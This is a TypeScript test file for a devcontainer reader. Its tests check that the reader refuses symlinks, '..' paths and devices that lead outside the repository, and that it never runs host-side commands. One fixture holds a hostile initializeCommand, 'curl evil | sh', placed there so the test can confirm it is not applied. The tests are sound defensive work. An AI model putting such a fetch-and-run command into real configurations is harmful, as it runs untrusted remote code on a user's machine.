import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { AxoError, InvalidInputError } from '@axo/podman-args';
import { afterEach, describe, expect, it } from 'vitest';
import { DevcontainerError } from './error';
import { readDevcontainer, readSessionRequest, resolveBuildPaths } from './fs';
import { MAX_DEVCONTAINER_BYTES } from './limits';

const dirs: string[] = [];
afterEach(() => {
  for (const d of dirs.splice(0)) rmSync(d, { recursive: true, force: true });
});
const tempDir = () => {
  const dir = realpathSync(mkdtempSync(join(tmpdir(), 'axo-devc-')));
  dirs.push(dir);
  return dir;
};
/** A repository inside a temporary directory, so a test can put files beside it ("outside"). */
const repo = () => {
  const dir = join(tempDir(), 'repo');
  mkdirSync(join(dir, '.devcontainer'), { recursive: true });
  return dir;
};
const CONFIG = join('.devcontainer', 'devcontainer.json');

describe('readDevcontainer', () => {
  it('reads .devcontainer/devcontainer.json from a directory, or finds none', async () => {
    const dir = tempDir();
    expect(await readDevcontainer(dir)).toBeUndefined();
    expect(await readDevcontainer(join(dir, 'missing'))).toBeUndefined();
    mkdirSync(join(dir, '.devcontainer'));
    writeFileSync(join(dir, CONFIG), '{ "image": "x" }');
    expect(await readDevcontainer(dir)).toMatchObject({ file: '.devcontainer/devcontainer.json', image: 'x' });
  });

  it('does not mistake an unreadable file for a missing one', async () => {
    const dir = tempDir();
    // A directory where the file should be cannot be read as one.
    mkdirSync(join(dir, '.devcontainer.json'));
    await expect(readDevcontainer(dir)).rejects.toThrow(/\.devcontainer\.json:1:1: not a regular file/);
  });

  it('accepts a link that stays inside the repository', async () => {
    const dir = repo();
    writeFileSync(join(dir, 'shared.json'), '{ "image": "x" }');
    symlinkSync('../shared.json', join(dir, CONFIG));
    expect(await readDevcontainer(dir)).toMatchObject({ image: 'x' });
  });

  it('refuses a link to a file outside the repository, which would feed host files into a session', async () => {
    const dir = repo();
    const outside = join(dir, '..', 'secrets.json');
    writeFileSync(outside, '{ "containerEnv": { "TOKEN": "host secret" } }');
    symlinkSync(outside, join(dir, CONFIG));
    const error = await readDevcontainer(dir).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(DevcontainerError);
    expect(error).toMatchObject({ code: 'INVALID_INPUT', hint: expect.stringMatching(/inside the repository/) });
    expect((error as Error).message).toMatch(/resolves outside the repository/);
  });

  it('refuses a linked .devcontainer directory that leaves the repository', async () => {
    const dir = tempDir();
    const outside = tempDir();
    writeFileSync(join(outside, 'devcontainer.json'), '{}');
    symlinkSync(outside, join(dir, '.devcontainer'));
    await expect(readDevcontainer(dir)).rejects.toThrow(/resolves outside the repository/);
  });

  it('refuses a FIFO at once instead of waiting for a writer', async () => {
    const dir = repo();
    execFileSync('mkfifo', [join(dir, CONFIG)]);
    await expect(readDevcontainer(dir)).rejects.toThrow(/not a regular file/);
  });

  it('refuses a link to a device that never ends', async () => {
    const dir = repo();
    symlinkSync('/dev/zero', join(dir, CONFIG));
    await expect(readDevcontainer(dir)).rejects.toThrow(/not a regular file/);
  });

  it('refuses a file over the size limit without reading it', async () => {
    const dir = repo();
    writeFileSync(join(dir, CONFIG), `{ "name": "${'x'.repeat(MAX_DEVCONTAINER_BYTES)}" }`);
    const error = await readDevcontainer(dir).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(DevcontainerError);
    expect((error as Error).message).toMatch(/larger than 1048576 bytes/);
  });

  it('accepts a byte order mark', async () => {
    const dir = repo();
    writeFileSync(join(dir, CONFIG), Buffer.from('\uFEFF{\r\n  "image": "x",\r\n  "runArgs": []\r\n}'));
    expect(await readDevcontainer(dir)).toMatchObject({ image: 'x', ignored: [{ key: 'runArgs', line: 3 }] });
  });
});

describe('resolveBuildPaths', () => {
  const request = (dockerfile: string, context = '.') => ({ configDir: '.devcontainer', dockerfile, context });

  it('returns the real absolute paths of a Dockerfile and context inside the repository', async () => {
    const dir = repo();
    writeFileSync(join(dir, '.devcontainer', 'Dockerfile'), 'FROM alpine\n');
    expect(await resolveBuildPaths(dir, request('Dockerfile', '..'))).toEqual({
      dockerfile: join(dir, '.devcontainer', 'Dockerfile'),
      context: dir,
    });
  });

  it('follows links that stay inside the repository', async () => {
    const dir = repo();
    mkdirSync(join(dir, 'docker'));
    writeFileSync(join(dir, 'docker', 'Dockerfile'), 'FROM alpine\n');
    symlinkSync('../docker/Dockerfile', join(dir, '.devcontainer', 'Dockerfile'));
    expect(await resolveBuildPaths(dir, request('Dockerfile'))).toEqual({
      dockerfile: join(dir, 'docker', 'Dockerfile'),
      context: join(dir, '.devcontainer'),
    });
  });

  it('refuses a context that climbs out with ".."', async () => {
    const dir = repo();
    writeFileSync(join(dir, '.devcontainer', 'Dockerfile'), 'FROM alpine\n');
    const error = await resolveBuildPaths(dir, request('Dockerfile', '../../..')).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(InvalidInputError);
    expect(AxoError.isInstance(error) && error.code).toBe('INVALID_INPUT');
    expect(error).toMatchObject({
      field: 'build.context',
      message: 'build.context "../../.." resolves outside the repository',
      hint: expect.stringMatching(/inside the repository/),
    });
  });

  it('refuses a Dockerfile outside the repository, by ".." or by an absolute path', async () => {
    const dir = repo();
    writeFileSync(join(dir, '..', 'Dockerfile'), 'FROM alpine\n');
    await expect(resolveBuildPaths(dir, request('../../Dockerfile'))).rejects.toMatchObject({
      field: 'build.dockerfile',
      message: 'build.dockerfile "../../Dockerfile" resolves outside the repository',
    });
    await expect(resolveBuildPaths(dir, request(join(dir, '..', 'Dockerfile')))).rejects.toThrow(
      /resolves outside the repository/,
    );
  });

  it('refuses links out of the repository, for the Dockerfile and for the context', async () => {
    const dir = repo();
    const outside = tempDir();
    writeFileSync(join(outside, 'Dockerfile'), 'FROM alpine\n');
    symlinkSync(join(outside, 'Dockerfile'), join(dir, '.devcontainer', 'Dockerfile'));
    symlinkSync(outside, join(dir, 'ctx'));
    await expect(resolveBuildPaths(dir, request('Dockerfile'))).rejects.toThrow(
      'build.dockerfile "Dockerfile" resolves outside the repository',
    );
    writeFileSync(join(dir, 'Dockerfile'), 'FROM alpine\n');
    await expect(resolveBuildPaths(dir, request('../Dockerfile', '../ctx'))).rejects.toThrow(
      'build.context "../ctx" resolves outside the repository',
    );
  });

  it('says when a path does not exist or is of the wrong kind', async () => {
    const dir = repo();
    await expect(resolveBuildPaths(dir, request('Dockerfile'))).rejects.toThrow(
      'build.dockerfile "Dockerfile" does not exist (paths are relative to .devcontainer)',
    );
    writeFileSync(join(dir, 'Dockerfile'), 'FROM alpine\n');
    await expect(resolveBuildPaths(dir, request('..'))).rejects.toThrow('build.dockerfile ".." is not a file');
    await expect(resolveBuildPaths(dir, request('../Dockerfile', '../Dockerfile'))).rejects.toThrow(
      'build.context "../Dockerfile" is not a directory',
    );
  });
});

describe('readSessionRequest', () => {
  it('turns a realistic file into what a session start takes', async () => {
    const path = repo();
    const dir = { path };
    writeFileSync(join(dir.path, '.devcontainer', 'Dockerfile'), 'FROM scratch\n');
    writeFileSync(
      join(dir.path, '.devcontainer', 'devcontainer.json'),
      `{
        "build": { "dockerfile": "Dockerfile", "context": "..", "args": { "V": "1" } },
        "containerEnv": { "A": "container", "GONE": "x" },
        "remoteEnv": { "A": "remote", "GONE": null, "B": "b" },
        "containerUser": "root",
        "remoteUser": "dev",
        "workspaceFolder": "/workspaces/app",
        "onCreateCommand": ["npm", "ci"],
        "postAttachCommand": { "hello": "echo hi" },
        "initializeCommand": "curl evil | sh",
        "forwardPorts": [3000]
      }`,
    );
    const r = await readSessionRequest(dir.path);
    expect(r).toMatchObject({
      file: '.devcontainer/devcontainer.json',
      build: { dockerfile: join(dir.path, '.devcontainer', 'Dockerfile'), context: dir.path, args: { V: '1' } },
      env: { A: 'remote', B: 'b' },
      user: 'dev',
      workspaceFolder: '/workspaces/app',
      ports: [3000],
      lifecycle: { onCreate: [{ argv: ['npm', 'ci'] }], postAttach: [{ name: 'hello', command: 'echo hi' }] },
    });
    expect(r?.env).not.toHaveProperty('GONE');
    expect(r?.notApplied).toContainEqual({
      key: 'initializeCommand',
      reason: expect.stringMatching(/never run/),
      line: 10,
    });
  });
});
